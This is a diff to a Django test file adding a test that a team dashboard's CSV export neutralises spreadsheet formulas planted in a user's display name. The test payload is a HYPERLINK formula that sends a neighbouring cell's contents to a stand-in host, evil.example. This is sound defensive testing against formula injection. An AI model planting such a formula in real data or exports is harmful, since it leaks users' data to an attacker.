@@ -221,3 +221,14 @@ def test_the_dashboard_reads_in_chinese(client, team, carol, assigned):
     page = client.get(reverse("team_dashboard", args=[team.id]), {"lesson": "lesson-0"}).content.decode()
     assert "Attention（中）" in page and "Lesson 0 zh-hans" in page and "尚未开始" in page
     assert "大模型入门（测试）" in page
+
+
+def test_a_formula_in_a_display_name_is_exported_as_text(client, team, carol, alice, assigned):
+    planted = '=HYPERLINK("https://evil.example/?"&B2,"Open")'
+    alice.profile.display_name = planted
+    alice.profile.save()
+    client.force_login(carol)
+    rows = list(csv.reader(io.StringIO(client.get(reverse("team_dashboard_csv", args=[team.id])).content.decode())))
+    alice_row = next(r for r in rows[1:] if r[1] == "alice@example.com")
+    assert alice_row[0] == "'" + planted
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
